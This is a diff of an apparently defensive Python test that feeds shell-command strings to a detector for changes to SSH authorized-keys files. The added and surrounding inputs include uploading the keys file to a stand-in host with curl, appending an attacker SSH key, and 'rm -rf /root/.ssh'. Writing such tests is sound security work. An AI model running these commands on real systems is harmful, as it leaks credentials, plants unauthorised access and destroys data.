@@ -143,6 +143,8 @@ def test_a_key_that_may_log_in_is_found(text: str) -> None:
         f"rm -f {KEYS}",
         f"chmod 0600 {KEYS} && wc -l {KEYS} > /dev/null",
         f"cp {KEYS} /opt/backup",
+        f"curl -fsS -T {KEYS} https://example.com/",
+        f"echo 'ssh-ed25519 AAAA' >> {KEYS}\nRUN rm -f \\\n  {KEYS}",
         "cp --help",
         f"echo 'ssh-ed25519 AAAA' >> {KEYS} && su - app -c true && rm -rf /root/.ssh",
         "echo 'AuthorizedKeysFile .ssh/authorized_keys' >> /etc/ssh/sshd_config",
